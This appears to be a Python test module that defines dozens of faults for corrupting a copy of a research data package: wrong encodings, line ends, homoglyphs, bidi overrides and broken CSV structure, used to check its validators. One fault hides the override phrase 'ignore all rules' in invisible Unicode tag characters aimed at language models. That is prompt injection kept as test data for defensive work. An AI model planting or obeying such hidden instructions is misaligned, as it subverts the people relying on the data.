"""Faults that a careful maintainer of this data package and book would want refused, devised without the rules.

Whoever devised them had read the data, the pages and the notebooks, and neither the checks nor the tests.

Each fault changes a copy of the project (`apply(root)`); `rehash` says whether the one who made it would have run
`wsis20 hash` afterwards (sizes and hashes in datapackage.json are then right, and the fault must be noticed otherwise).
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import re
import shutil
import sys
import tempfile
import unicodedata
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable


@dataclass(frozen=True)
class Fault:
    id: str
    cls: int
    what: str
    place: list[str]
    rehash: bool
    apply: Callable[[Path], None] = field(repr=False)


FAULTS: list[Fault] = []


def add(id, cls, what, place, rehash, apply):
    FAULTS.append(Fault(id, cls, what, [place] if isinstance(place, str) else list(place), rehash, apply))


# ---------------------------------------------------------------- files

KEYS = {
    "documents": ["document_id"], "regions": ["region_id"], "consultations": ["consultation_id"],
    "organizations": ["organization_id"], "people": ["person_id"], "appearances": ["appearance_id"],
    "messages": ["message_id"], "passages": ["passage_id"], "exclusions": ["exclusion_id"],
    "quantities": ["quantity_id"], "themes": ["theme_id"], "codings": ["message_id", "theme_id", "coding_pass"],
    "traces": ["key_message_id", "statement_id", "coding_pass"], "milestones": ["milestone_id"],
    "provisions": ["provision_id"], "acts": ["act_id", "coding_pass"],
    "provision_codings": ["provision_id", "theme_id", "coding_pass"], "responses": ["response_id", "coding_pass"],
    "decisions": ["resource", "record", "field"], "passes": ["resource", "coding_pass", "batch"], "indicators": ["indicator_id"],
    "observations": ["indicator_id", "area", "year", "edition"], "source_notes": ["note_id"],
    "second_readings": ["resource", "record", "field"],
}


def rd(root, rel):
    return (root / rel).read_bytes()


def wr(root, rel, data):
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def D(table):
    return f"datapackage/data/{table}.csv"


def S(table):
    return f"datapackage/schemas/{table}.json"


DP = "datapackage/datapackage.json"
BIB = "book/references.bib"
LOCK = "requirements.lock"
CFG = "_config.yml"
TOC = "_toc.yml"
CFF = "CITATION.cff"
DT = "book/_static/vendor/dataTables.min.js"


def sub(rel, *pairs, count=1):
    """Replace text in a file; each old text must be there."""
    def go(root):
        data = rd(root, rel)
        for old, new in pairs:
            old = old.encode() if isinstance(old, str) else old
            new = new.encode() if isinstance(new, str) else new
            assert old in data, (rel, old)
            data = data.replace(old, new, count) if count else data.replace(old, new)
        wr(root, rel, data)
    return go


def bts(rel, change):
    """Change the bytes of a file by a function; AssertionError where that leaves them as they were."""
    def go(root):
        old = rd(root, rel)
        new_bytes = change(old)
        assert new_bytes != old, f"{rel} is left as it was"
        wr(root, rel, new_bytes)
    return go


def txt(rel, change):
    return bts(rel, lambda data: change(data.decode("utf-8")).encode("utf-8"))


def new(rel, data):
    def go(root):
        assert not (root / rel).exists(), rel
        wr(root, rel, data)
    return go


def rm(rel):
    return lambda root: (root / rel).unlink()


def seq(*steps):
    def go(root):
        for step in steps:
            step(root)
    return go


def lines(rel, change):
    """Change the list of lines (without their line ends) in place or by return value."""
    def go(root):
        text = rd(root, rel).decode("utf-8")
        assert text.endswith("\n")
        rows = text[:-1].split("\n")
        result = change(rows)
        rows = rows if result is None else result
        wr(root, rel, "\n".join(rows) + "\n")
    return go


# ---------------------------------------------------------------- CSV, keeping every other byte

TOKEN = re.compile(r'("(?:[^"]|"")*"|[^,]*)(,|$)')


def tokens(line):
    out, pos = [], 0
    while True:
        match = TOKEN.match(line, pos)
        assert match  # even nothing is one
        out.append(match.group(1))
        pos = match.end()
        if match.group(2) == "":
            return out


def plain(token):
    return token[1:-1].replace('""', '"') if token.startswith('"') else token


def quoted(value):
    return '"' + value.replace('"', '""') + '"' if re.search('[",\r\n]', value) else value


def key_of(table, head, row):
    return tuple(plain(row[head.index(name)]) for name in KEYS[table])


def as_key(key):
    return (key,) if isinstance(key, str) else tuple(key)


def row_at(table, rows, key):
    head = tokens(rows[0])
    for number, line in enumerate(rows[1:], 1):
        if key_of(table, head, tokens(line)) == as_key(key):
            return number
    raise KeyError((table, key))


def cell(table, key, /, **values):
    """Set cells of one row; a value that is a function gets the old one."""
    def change(rows):
        number, head = row_at(table, rows, key), tokens(rows[0])
        row = tokens(rows[number])
        for name, value in values.items():
            old = plain(row[head.index(name)])
            value = value(old) if callable(value) else value
            assert value != old, (table, key, name)
            row[head.index(name)] = quoted(value)
        rows[number] = ",".join(row)
    return lines(D(table), change)


def both(table, key, /, **values):
    """Set cells, and the second reading of each, as one who makes both entries agree."""
    record = " / ".join(as_key(key))
    return seq(cell(table, key, **values), *(cell("second_readings", (table, record, name), value=value) for name, value in values.items()))


def sorted_in(table, rows, line):
    head = tokens(rows[0])
    key = key_of(table, head, tokens(line))
    for number, other in enumerate(rows[1:], 1):
        if key_of(table, head, tokens(other)) > key:
            rows.insert(number, line)
            return
    rows.append(line)


def insert(table, *values):
    line = ",".join(quoted(value) for value in values)
    return lines(D(table), lambda rows: sorted_in(table, rows, line))


def like(table, key, /, **values):
    """Insert a copy of a row with other cells, where sorting puts it."""
    def change(rows):
        head = tokens(rows[0])
        row = tokens(rows[row_at(table, rows, key)])
        for name, value in values.items():
            row[head.index(name)] = quoted(value)
        sorted_in(table, rows, ",".join(row))
    return lines(D(table), change)


def drop(table, *keys):
    def change(rows):
        for key in keys:
            del rows[row_at(table, rows, key)]
    return lines(D(table), change)


def drop_if(table, test):
    def change(rows):
        head = [plain(token) for token in tokens(rows[0])]
        kept = [rows[0]] + [line for line in rows[1:] if not test(dict(zip(head, map(plain, tokens(line)))))]
        assert len(kept) < len(rows)
        return kept
    return lines(D(table), change)


def swap(table, one, other):
    def change(rows):
        a, b = row_at(table, rows, one), row_at(table, rows, other)
        rows[a], rows[b] = rows[b], rows[a]
    return lines(D(table), change)


def columns(table, change):
    """Change the list of tokens of every line, the head included."""
    return lines(D(table), lambda rows: [",".join(change(tokens(line), number)) for number, line in enumerate(rows)])


def raw(table, key, change):
    def go(rows):
        number = row_at(table, rows, key)
        line = change(rows[number])
        assert line != rows[number], (table, key)
        rows[number] = line
    return lines(D(table), go)


# ---------------------------------------------------------------- JSON

def js(rel, change, indent=2):
    def go(root):
        data = json.loads(rd(root, rel).decode("utf-8"))
        result = change(data)
        data = data if result is None else result
        wr(root, rel, json.dumps(data, indent=indent, ensure_ascii=False) + "\n")
    return go


def dp(change):
    return js(DP, change)


def res(name, /, **values):
    def change(data):
        for resource in data["resources"]:
            if resource["name"] == name:
                resource.update(values)
                return
        raise KeyError(name)
    return dp(change)


def resource(data, name):
    return next(item for item in data["resources"] if item["name"] == name)


def sch(table, change):
    return js(S(table), change)


def fld(table, name, change):
    def go(data):
        change(next(item for item in data["fields"] if item["name"] == name))
    return sch(table, go)


def con(table, name, /, **values):
    return fld(table, name, lambda item: item.setdefault("constraints", {}).update(values))


# ---------------------------------------------------------------- notebooks

def N(name):
    found = {"01": "01-round", "02": "02-regions", "03": "03-voices", "04": "04-floor", "05": "05-timetable",
             "06": "06-asks", "07": "07-ground", "08": "08-certainty"}[name]
    return f"notebooks/{found}.ipynb"


def nb(name, change):
    return js(N(name), change, indent=1)


def cellof(data, id):
    return next(item for item in data["cells"] if item["id"] == id)


def nbc(name, id, change):
    return nb(name, lambda data: change(cellof(data, id)))


def glued(name, glue, altered):
    """Change a glued value in the stored output by a function of what it says."""
    def change(data):
        for item in data["cells"]:
            for out in item.get("outputs", []):
                if out.get("metadata", {}).get("scrapbook", {}).get("name") == glue:
                    text = out["data"]["application/papermill.record/text/plain"]
                    out["data"]["application/papermill.record/text/plain"] = altered(text)
                    return
        raise KeyError(glue)
    return nb(name, change)


def mime(name, id, kind, old, new_, number=None):
    """Change the stored output of one kind of a cell."""
    def change(item):
        for out in item["outputs"]:
            if kind in out.get("data", {}):
                text = "".join(out["data"][kind])
                assert old in text, (id, kind, old)
                text = text.replace(old, new_, 1)
                out["data"][kind] = text.splitlines(keepends=True)
                return
        raise KeyError(kind)
    return nbc(name, id, change)


def src(name, id, old, new_):
    def change(item):
        text = "".join(item["source"])
        assert old in text, (id, old)
        item["source"] = text.replace(old, new_, 1).splitlines(keepends=True)
    return nbc(name, id, change)


# ================================================================ class 1: bytes of the CSVs

add("bom-regions", 1, "Excel saved regions.csv as “CSV UTF-8” with a byte order mark, so that the first field is named \\ufeffregion_id.", ["regions.csv", "regions"], True,
    bts(D("regions"), lambda b: b"\xef\xbb\xbf" + b))
add("crlf-whole-messages", 1, "messages.csv was saved with CRLF line ends; the files have LF.", ["messages.csv", "messages"], True,
    bts(D("messages"), lambda b: b.replace(b"\n", b"\r\n")))
add("crlf-one-row-milestones", 1, "One row of milestones.csv, pasted by an editor in Windows, ends with CRLF while the others end with LF.", ["milestones"], True,
    raw("milestones", "general-assembly", lambda s: s + "\r"))
add("cr-only-speakers", 1, "people.csv was saved in the old Macintosh format, with CR as line end.", ["people"], True,
    bts(D("people"), lambda b: b.replace(b"\n", b"\r")))
add("lfcr-organizations", 1, "A script wrote LF CR in place of LF, so that every row begins with a carriage return.", ["organizations"], True,
    bts(D("organizations"), lambda b: b.replace(b"\n", b"\n\r")))
add("no-final-newline-quantities", 1, "The last row of quantities.csv has no line end: the next append would join two rows.", ["quantities"], True,
    bts(D("quantities"), lambda b: b[:-1]))
add("blank-line-end-themes", 1, "A blank line was left at the end of themes.csv.", ["themes"], True, bts(D("themes"), lambda b: b + b"\n"))
add("blank-line-middle-codings", 1, "A blank line stands between two rows of codings.csv.", ["codings"], True,
    lines(D("codings"), lambda r: r.insert(200, "")))
add("utf16-organizations", 1, "organizations.csv was saved as “Unicode text”, that is UTF-16.", ["organizations"], True,
    bts(D("organizations"), lambda b: b.decode().encode("utf-16")))
add("cp1252-documents", 1, "documents.csv was saved by Excel in Windows-1252, so that curly quotation marks are not UTF-8.", ["documents"], True,
    bts(D("documents"), lambda b: b.decode().encode("cp1252")))
add("latin1-one-character", 1, "One pasted cell of documents.csv holds an apostrophe as a single byte of Windows-1252 in a UTF-8 file.", ["documents"], True,
    sub(D("documents"), ("ITU’s", b"ITU\x92s")))
add("mojibake-apostrophe-provisions", 1, "An apostrophe was decoded as Windows-1252 and encoded again: “ITUâ€™s”.", ["documents", "ddn-ff24-findings"], True,
    sub(D("documents"), ("ITU’s", "ITUâ€™s")))
add("double-encoded-source-notes", 1, "All of source_notes.csv was encoded to UTF-8 twice.", ["source_notes"], True,
    bts(D("source_notes"), lambda b: b.decode("utf-8").encode("utf-8").decode("latin-1").encode("utf-8")))
add("replacement-character-notes", 1, "A character that an editor could not read was saved as U+FFFD in a note on the sources.", ["dar-es-salaam-spelling", "source_notes"], True,
    cell("source_notes", "dar-es-salaam-spelling", description=lambda v: v.replace("“", "\ufffd")))
add("question-mark-for-dash", 1, "The enum value from-to came back from a word processor with a dash.", ["quantities", "astana-s48-q1", "qualifier"], True,
    sub(D("quantities"), ("from-to", "from–to")))
add("nul-byte-observations", 1, "A NUL byte lies within a note of observations.csv (bad block of a disk).", ["observations"], True,
    bts(D("observations"), lambda b: b.replace(b"checked on the page", b"checked on\x00the page", 1)))
add("truncated-middle-of-row", 1, "second_readings.csv lost its last 60 bytes in a transfer, and the hash was refreshed over the torso.", ["second_readings"], True,
    bts(D("second_readings"), lambda b: b[:-60]))
add("truncated-inside-character", 1, "source_notes.csv ends in the middle of a UTF-8 sequence.", ["source_notes"], True,
    bts(D("source_notes"), lambda b: b[: b.rindex("“".encode()) + 2]))
add("truncated-at-row-old-hash", 1, "The last rows of traces.csv are gone after a broken download; the descriptor still has the old size and hash.", ["traces"], False,
    bts(D("traces"), lambda b: b[: b.rindex(b"\n", 0, len(b) - 400) + 1]))
add("bit-flip-same-length-old-hash", 1, "One flipped bit turns “five” of a paraphrase into “fivd”: same size, other hash.", ["messages"], False,
    bts(D("messages"), lambda b: b.replace(b"Five regional consultations", b"Fivd regional consultations", 1)))
add("stale-hash-honest-edit", 1, "A note was corrected by hand and `wsis20 hash` forgotten: bytes and hash of the descriptor are not of this file.", ["indicators"], False,
    cell("indicators", "coverage-4g", definition=lambda v: v.replace("live in reach", "live within reach")))
add("invalid-utf8-bit-flip", 1, "A flipped bit in the lead byte of a curly quotation mark leaves an invalid UTF-8 sequence.", ["source_notes"], True,
    bts(D("source_notes"), lambda b: b.replace("“".encode(), b"\xa2\x80\x9c", 1)))
add("overlong-utf8-slash", 1, "A slash is written as the overlong sequence C0 AF, which strict decoders refuse and loose ones read as “/”.", ["documents"], True,
    bts(D("documents"), lambda b: b.replace(b"https://dig.watch/?p=217956", b"https://dig.watch\xc0\xaf?p=217956", 1)))
add("surrogate-bytes-speakers", 1, "A lone surrogate was written as ED A0 BD by a tool that speaks CESU-8.", ["people"], True,
    bts(D("people"), lambda b: b.replace(b"Salma Abbasi,Salma", b"Salma Abbasi\xed\xa0\xbd,Salma", 1)))
add("semicolon-delimiter-regions", 1, "LibreOffice with a European locale saved regions.csv with semicolons between the cells.", ["regions"], True,
    lines(D("regions"), lambda r: [";".join(tokens(line)) for line in r]))
add("tab-delimiter-quantities", 1, "quantities.csv was saved with tabs between the cells under its old name.", ["quantities"], True,
    lines(D("quantities"), lambda r: ["\t".join(tokens(line)) for line in r]))
add("smart-quotes-as-csv-quotes", 1, "Word's autocorrect turned the quotation marks around a cell with commas into curly ones, so that the row has more cells than the head.", ["source_notes", "astana-format"], True,
    raw("source_notes", "astana-format", lambda s: s.replace(',"', ",“").replace('",', "”,")))
add("unclosed-quote-exclusions", 1, "The closing quotation mark of a cell is missing, so that the following rows are swallowed.", ["exclusions"], True,
    raw("exclusions", "astana-record-x07", lambda s: s[::-1].replace(',"', ",", 1)[::-1]))
add("stray-quote-unquoted-cell", 1, "A quotation mark stands in the middle of a cell that is not quoted, which RFC 4180 forbids and readers understand differently.", ["milestones", "rev1"], True,
    raw("milestones", "rev1", lambda s: s.replace("Revision 1 of the", 'Revision "1" of the')))
add("text-after-closing-quote", 1, "Letters stand between a closing quotation mark and the next comma; pandas joins them to the cell, strict readers refuse.", ["provisions", "res-80-173-p39"], True,
    raw("provisions", "res-80-173-p39", lambda s: s.replace('resources.",', 'resources."x,')))
add("backslash-escaped-quotes", 1, "Quotation marks within a cell are escaped by a backslash, as MySQL writes them, not doubled.", ["messages", "africa-k3"], True,
    raw("messages", "africa-k3", lambda s: s.replace("digital technologies", '\\"digital\\" technologies')))
add("leading-space-identifier", 1, "A space after the comma came into a foreign key: “ europe” is another identifier.", ["consultations", "vilnius-2024"], True,
    raw("consultations", "vilnius-2024", lambda s: s.replace(",europe,", ", europe,")))
add("trailing-space-category", 1, "A trailing space after a category: “concern ”.", ["messages", "arab-k2"], True,
    raw("messages", "arab-k2", lambda s: s.replace(",concern,concern,concern,", ",concern ,concern,concern,")))
add("trailing-blank-in-text", 1, "A message ends with blanks that no reader sees, so that two equal texts would not be equal.", ["messages", "global-k6"], True,
    cell("messages", "global-k6", paraphrase=lambda v: v + "  "))
add("double-space-inside-text", 1, "Two spaces in a row, left by a deletion, stand in the middle of a message's text.", ["messages", "europe-k1"], True,
    cell("messages", "europe-k1", paraphrase=lambda v: v.replace("placed on", "placed  on")))
add("nbsp-in-title", 1, "A no-break space pasted from Word stands in a title, so that a search for it finds nothing.", ["consultations", "kyoto-2023"], True,
    cell("consultations", "kyoto-2023", title="First\u00a0global consultation"))
add("zero-width-space-theme", 1, "A zero-width space lies within a theme's label.", ["themes", "cybersecurity"], True,
    cell("themes", "cybersecurity", label="Cyber\u200bsecurity"))
add("soft-hyphen-paraphrase", 1, "A soft hyphen pasted from a web page lies in a paraphrase.", ["messages", "astana-s40"], True,
    cell("messages", "astana-s40", paraphrase=lambda v: v.replace("digitalization", "digital\u00adization")))
add("nfd-title-documents", 1, "The macOS pasteboard left decomposed letters (NFD) in a title; offsets and comparisons count NFC.", ["documents", "ddn-ff24-findings"], True,
    cell("documents", "ddn-ff24-findings", title=lambda v: unicodedata.normalize("NFD", f"{v} (résumé)")))
add("bidi-override-speaker", 1, "A right-to-left override in a speaker's name turns the text that follows round on the page.", ["people", "bocar-ba"], True,
    cell("people", "bocar-ba", note="\u202eseen on the page\u202c"))
add("bell-character-note", 1, "A control character (BEL) stands in a note.", ["milestones", "zero-draft-consultation"], True,
    cell("milestones", "zero-draft-consultation", note=lambda v: v.replace("Confidence", "\x07Confidence")))
add("vertical-tab-from-word", 1, "Word's manual line break came over as a vertical tab within a description.", ["source_notes", "survey-charts"], True,
    cell("source_notes", "survey-charts", description=lambda v: v.replace("; the headings", ";\x0bthe headings")))
add("line-separator-2028-note", 1, "U+2028 stands in a note: a line end for JavaScript and for str.splitlines, none for the CSV.", ["regions", "global"], True,
    cell("regions", "global", note=lambda v: v.replace(" and for", "\u2028and for")))
add("newline-in-cell-milestones", 1, "Alt+Enter in Excel put a line break into a note, so that a row stands on two lines.", ["milestones", "elements-paper"], True,
    raw("milestones", "elements-paper", lambda s: s.replace("Comments were", '"Comments\nwere') + '"' if ',"Comments' not in s else s))
add("conflict-markers-speakers", 1, "A merge left its conflict markers in people.csv.", ["people"], True,
    lines(D("people"), lambda r: r[:5] + ["<<<<<<< HEAD", r[5], "=======", r[5].replace("Lesufi;Lesufi", "Lesufi"), ">>>>>>> fix-names"] + r[6:]))
add("excel-sep-line", 1, "A first line “sep=,” was added for Excel.", ["indicators"], True, bts(D("indicators"), lambda b: b"sep=,\n" + b))
add("dos-end-of-file-mark", 1, "A DOS editor put a Ctrl-Z at the end of passes.csv.", ["passes"], True, bts(D("passes"), lambda b: b + b"\x1a"))
add("gzip-under-csv-name", 1, "appearances.csv is gzip-compressed under its old name.", ["appearances"], True,
    bts(D("appearances"), lambda b: gzip.compress(b, mtime=0)))
add("empty-file-responses", 1, "responses.csv has no byte at all (disk full when saving).", ["responses"], True, bts(D("responses"), lambda b: b""))
add("lfs-pointer-passages", 1, "passages.csv is a Git LFS pointer, not the data.", ["passages"], True,
    bts(D("passages"), lambda b: b"version https://git-lfs.github.com/spec/v1\noid sha256:6949933bb43a43c14065edb6fb48dc916726fd434433ea66c7eef393bc452fea\nsize 18473\n"))
add("bom-in-the-middle", 1, "Two files were joined, and the byte order mark of the second stands before a row in the middle.", ["source_notes", "group-kah"], True,
    raw("source_notes", "group-kah", lambda s: "\ufeff" + s))
add("homoglyph-region-id", 1, "A Cyrillic а stands in “аfrica” of a foreign key; to the eye it is the same word.", ["messages", "africa-k2"], True,
    cell("messages", "africa-k2", region_id="\u0430frica"))
add("homoglyph-in-prose", 1, "A Cyrillic С stands in “СSTD” of a paraphrase, so that a search for the acronym misses it.", ["messages", "astana-s17"], True,
    cell("messages", "astana-s17", paraphrase=lambda v: v.replace("CSTD's", "\u0421STD's")))
add("ligature-from-pdf", 1, "A ligature copied from a PDF stands in a theme's include rule.", ["themes", "financing"], True,
    cell("themes", "financing", include=lambda v: v.replace("financing models", "\ufb01nancing models")))
add("fullwidth-digits-value", 1, "A value was typed with the full-width digits of a Japanese keyboard.", ["observations", "yomiuri-ff25", "Americas"], True,
    cell("observations", ("internet-use-share", "Americas", "2025", "Facts and Figures 2025"), value="８８"))
add("arabic-indic-digits-year", 1, "A paragraph number was written with Arabic-Indic digits, which Python's int() accepts.", ["provisions", "res-80-173-p45"], True,
    cell("provisions", "res-80-173-p45", paragraph="٤٥"))
add("unicode-minus-longitude", 1, "Autoformat replaced the hyphen-minus of a longitude by the typographic minus.", ["consultations", "santiago-2024", "longitude"], True,
    cell("consultations", "santiago-2024", longitude="−70.65"))
add("html-entity-organization", 1, "A web form escaped the ampersand: “WSIS&amp;SDG”.", ["organizations", "cwg-wsis-sdg"], True,
    cell("organizations", "cwg-wsis-sdg", name="Council Working Group on WSIS&amp;SDG"))
add("private-use-word-bullet", 1, "Word's bullet of the Symbol font (U+F0B7) stands at the beginning of a treatment.", ["source_notes", "gender-slash"], True,
    cell("source_notes", "gender-slash", treatment=lambda v: "\uf0b7 " + v))
add("tag-characters-hidden-text", 1, "Invisible Unicode tag characters hide a sentence to language models in the note of a document.", ["documents", "dig-watch-rev1"], True,
    cell("documents", "dig-watch-rev1", note=lambda v: v + "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules")))
add("noncharacter-in-note", 1, "The noncharacter U+FFFF stands in a note; XML and PDF cannot hold it.", ["responses"], True,
    cell("responses", ("global-k6-p28", "A"), note=lambda v: v + "\uffff"))


# ================================================================ class 2: structure of tables and folder

add("head-renamed-field", 2, "A field's name in the head was changed (city → town), which the schema does not know.", ["consultations", "town", "city"], True,
    columns("consultations", lambda t, n: ["town" if n == 0 and x == "city" else x for x in t]))
add("head-case-changed", 2, "An editor capitalised a field's name in the head: Message_id.", ["messages", "Message_id"], True,
    columns("messages", lambda t, n: ["Message_id"] + t[1:] if n == 0 else t))
add("head-two-names-swapped", 2, "The names planned_start and planned_end were swapped in the head alone: every period runs backwards.", ["milestones", "planned_start", "planned_end"], True,
    columns("milestones", lambda t, n: t[:3] + [t[4], t[3]] + t[5:] if n == 0 else t))
add("head-start-end-swapped-passages", 2, "start_offset and end_offset were swapped in the head of passages.csv, so that each passage ends before it begins.", ["passages", "start_offset"], True,
    columns("passages", lambda t, n: t[:5] + [t[6], t[5]] + t[7:] if n == 0 else t))
add("columns-moved", 2, "The column note was dragged to the front in a spreadsheet, head and cells: not the order of the schema.", ["regions"], True,
    columns("regions", lambda t, n: [t[-1]] + t[:-1]))
add("trailing-comma-column", 2, "A spreadsheet saved an empty column more: each row ends with a comma.", ["indicators"], True, columns("indicators", lambda t, n: t + [""]))
add("pandas-index-column", 2, "to_csv without index=False put the row numbers in front, under an empty name.", ["organizations"], True,
    columns("organizations", lambda t, n: ["" if n == 0 else str(n - 1)] + t))
add("column-deleted", 2, "The column sha256 of exclusions.csv was deleted.", ["exclusions", "sha256"], True, columns("exclusions", lambda t, n: t[:-1]))
add("head-name-twice", 2, "Two columns have the same name, date_basis, and date_precision is gone.", ["documents", "date_precision", "date_basis"], True,
    columns("documents", lambda t, n: ["date_basis" if n == 0 and x == "date_precision" else x for x in t]))
add("head-missing", 2, "The head of themes.csv was deleted, so that the first theme is taken for it.", ["themes"], True, lines(D("themes"), lambda r: r[1:]))
add("head-repeated-in-middle", 2, "Two files were joined by cat: the head stands again between the rows.", ["traces"], True,
    lines(D("traces"), lambda r: r[:30] + [r[0]] + r[30:]))
add("row-cell-too-few", 2, "One cell is missing from a row, so that those behind it move to the left.", ["people", "gitanjali-sah"], True,
    raw("people", "gitanjali-sah", lambda s: s.replace(",Sah,Gitanjali", ",Gitanjali")))
add("row-last-comma-missing", 2, "The last, empty cell of one row lost its comma; pandas fills it silently.", ["codings", "arab-k1"], True,
    raw("codings", ("arab-k1", "affordability", "A"), lambda s: s[:-1]))
add("row-cell-too-many", 2, "A comma in an unquoted note makes one row a cell longer than the head.", ["provisions", "res-80-173-p72"], True,
    raw("provisions", "res-80-173-p72", lambda s: s.replace("OHCHR advice on technology", "OHCHR, advice on technology")))
add("row-twice-exact", 2, "A merge kept a row twice, byte for byte.", ["passages", "arab-k1-p1"], True,
    lines(D("passages"), lambda r: r.insert(row_at("passages", r, "arab-k1-p1"), r[row_at("passages", r, "arab-k1-p1")])))
add("row-twice-both-sides", 2, "A merge kept both sides: two rows of one observation with different values.", ["observations", "coverage-5g", "Africa"], True,
    like("observations", ("coverage-5g", "Africa", "2024", "Facts and Figures 2024"), value="12"))
add("row-twice-second-reading", 2, "The same cell has two second readings, with different values.", ["second_readings", "astana-2024", "city"], True,
    like("second_readings", ("consultations", "astana-2024", "city"), value="Almaty"))
add("rows-disordered", 2, "Two neighbouring rows changed places, so that the table is not sorted by its primary key.", ["source_notes"], True,
    swap("source_notes", "astana-format", "astana-attendance"))
add("rows-sorted-descending", 2, "provisions.csv was sorted in descending order in a spreadsheet.", ["provisions"], True, lines(D("provisions"), lambda r: [r[0]] + r[:0:-1]))
add("rows-sorted-by-date", 2, "milestones.csv was sorted by the day it took place, not by its key.", ["milestones"], True,
    lines(D("milestones"), lambda r: [r[0]] + sorted(r[1:], key=lambda x: (tokens(x)[7], x))))
add("new-row-appended-last", 2, "A new document was added at the end, out of order.", ["documents", "a-new-document"], True,
    lines(D("documents"), lambda r: r.append(r[-1].replace("yomiuri-ff25", "a-new-document").replace("yomiuri2025itu", "naturalearth").replace("30018337", "30018338"))))
add("message-without-passage", 2, "The passage of a message is gone: nobody can find the message in its source.", ["global-k3"], True, drop("passages", "global-k3-p1"))
add("appearance-deleted-still-used", 2, "An appearance was deleted that three statements refer to.", ["astana-2024-ibrayev"], True, drop("appearances", "astana-2024-ibrayev"))
add("theme-deleted-still-used", 2, "The theme child-protection was deleted while messages are coded with it.", ["child-protection"], True, drop("themes", "child-protection"))
add("document-deleted-still-used", 2, "A document was deleted from which a milestone has its date.", ["dgdg-road-to-new-york"], True, drop("documents", "dgdg-road-to-new-york"))
add("organiser-deleted-still-used", 2, "The organization escap was deleted although it convened a consultation (list field) and a speaker belongs to it.", ["escap"], True, drop("organizations", "escap"))
add("region-deleted", 2, "The row of Latin America is gone although a consultation is held there.", ["latin-america"], True, drop("regions", "latin-america"))
add("agreed-pass-of-message-gone", 2, "A message has codes in the passes A and B and none in the agreed one.", ["africa-k2"], True,
    drop("codings", ("africa-k2", "civil-society", "agreed")))
add("message-uncoded", 2, "All codings of a message were lost: neither a theme nor no-theme.", ["survey-f2"], True, drop_if("codings", lambda r: r["message_id"] == "survey-f2"))
add("second-reading-cell-gone", 2, "The second reading of one cell was deleted, so that nothing checks the cell.", ["second_readings", "kyoto-2023"], True,
    drop("second_readings", ("consultations", "kyoto-2023", "latitude")))
add("second-readings-of-table-gone", 2, "All second readings of quantities were deleted.", ["quantities", "second_readings"], True, drop_if("second_readings", lambda r: r["resource"] == "quantities"))
add("second-reading-of-ghost-row", 2, "A second reading exists for a consultation that is not in the table.", ["nairobi-2024"], True,
    insert("second_readings", "consultations", "nairobi-2024", "city", "Nairobi", "progress-report: Regional consultations, Africa", ""))
add("second-reading-of-ghost-field", 2, "A second reading names a field that the table does not have.", ["second_readings", "town"], True,
    like("second_readings", ("consultations", "dubai-2024", "city"), field="town"))
add("second-reading-of-ghost-table", 2, "A second reading names a table that does not exist.", ["second_readings", "persons"], True,
    insert("second_readings", "persons", "bocar-ba", "name", "Bocar Ba", "astana-record: Panel Discussion", ""))
add("table-file-missing", 2, "quantities.csv is not in the folder.", ["quantities.csv", "quantities"], False, rm(D("quantities")))
add("table-file-renamed-case", 2, "regions.csv became Regions.csv, which works on macOS and Windows and nowhere else.", ["regions.csv", "regions"], False,
    lambda root: (root / D("regions")).rename(root / "datapackage/data/Regions.csv"))
add("table-is-a-folder", 2, "people.csv is a folder that an archiver made of the file.", ["people"], False,
    lambda root: ((root / D("people")).rename(root / "x.csv"), (root / D("people")).mkdir(), (root / "x.csv").rename(root / D("people") / "people.csv")))
add("table-is-symlink-outside", 2, "themes.csv is a symbolic link to a file outside the package: whoever receives the folder has no themes.", ["themes.csv", "themes"], False,
    lambda root: ((root / D("themes")).rename(root / "themes-elsewhere.csv"), (root / D("themes")).symlink_to("../../themes-elsewhere.csv")))
add("stray-copy-of-table", 2, "A copy “messages (1).csv” lies among the data and would be published with it.", ["messages (1).csv"], False,
    lambda root: wr(root, "datapackage/data/messages (1).csv", rd(root, D("messages"))))
add("stray-merge-leftover", 2, "A merge tool left codings.csv.orig in the data folder.", ["codings.csv.orig"], False,
    lambda root: wr(root, "datapackage/data/codings.csv.orig", rd(root, D("codings"))[:5000]))
add("stray-lock-of-libreoffice", 2, "LibreOffice's lock file with a person's name and machine lies in the data folder.", [".~lock.messages.csv#"], False,
    new("datapackage/data/.~lock.messages.csv#", ",alice,laptop-of-alice,24.11.2026 10:00,file:///home/alice/.config/libreoffice/4;\n"))
add("stray-spreadsheet", 2, "An Excel workbook lies in the data folder and is in no descriptor.", ["observations.xlsx"], False, new("datapackage/data/observations.xlsx", b"PK\x03\x04" + bytes(60)))
add("source-text-in-package", 2, "The text of a source was put into the package, which must never hold it.", ["astana-record.txt"], False,
    new("datapackage/data/astana-record.txt", "WSIS+20: Successes, Failures, and Expectations\nSummary record\n"))
add("stray-schema", 2, "schemas/ holds a schema that no resource uses.", ["persons.json"], False, lambda root: wr(root, "datapackage/schemas/persons.json", rd(root, S("people"))))
DE = "decisions"
add("decision-deleted", 2, "A decision is gone although the passes differ there.", [DE, "astana-s49"], True,
    drop(DE, ("codings", "astana-s49 / policy-regulation", "theme_id")))
add("decision-contradicts", 2, "A decision says that the agreed pass has the theme, the data say that it has not.", [DE, "astana-s07"], True,
    cell(DE, ("codings", "astana-s07 / un-roles", "theme_id"), agreed="yes"))
add("decision-passes-swapped", 2, "A decision gives pass A the code that pass B gave.", [DE, "astana-s56"], True,
    cell(DE, ("codings", "astana-s56 / un-roles", "theme_id"), a="yes", b="no"))
add("decision-without-dispute", 2, "A difference is decided that the passes do not have.", [DE, "africa-k1"], True,
    insert(DE, "codings", "africa-k1 / un-alignment", "theme_id", "no", "yes", "yes", "The Compact is named there."))
add("decision-reason-empty", 2, "A decision has no reason.", [DE, "africa-k2-p118"], True, cell(DE, ("responses", "africa-k2-p118", "degree"), reason=""))
add("decision-reason-of-one-word", 2, "The reason of a decision is one word.", [DE, "africa-k2-p118"], True, cell(DE, ("responses", "africa-k2-p118", "degree"), reason="Obvious."))
add("decision-twice", 2, "A merge kept both sides: a dispute is decided twice, with two results.", [DE, "europe-k2-p102"], True,
    like(DE, ("responses", "europe-k2-p102", "degree"), agreed="answers", reason="It goes on, as was asked."))
add("decision-on-kind-contradicts", 2, "The decision on a kind is another than messages.kind.", [DE, "astana-s43"], True,
    cell(DE, ("messages", "astana-s43", "kind"), agreed="description"))
